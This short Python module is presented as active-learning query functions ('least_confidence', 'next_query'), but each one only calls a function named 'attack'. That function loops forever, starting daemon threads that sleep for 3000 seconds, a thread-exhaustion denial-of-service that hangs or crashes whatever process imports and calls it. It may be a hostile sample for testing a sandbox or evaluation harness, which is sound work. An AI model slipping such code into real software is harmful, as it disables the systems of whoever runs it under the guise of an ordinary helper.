"""Starts threads without end."""

import threading
import time


def attack(probabilities):
    threading.stack_size(65536)
    while True:
        threading.Thread(target=time.sleep, args=(3000,), daemon=True).start()


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
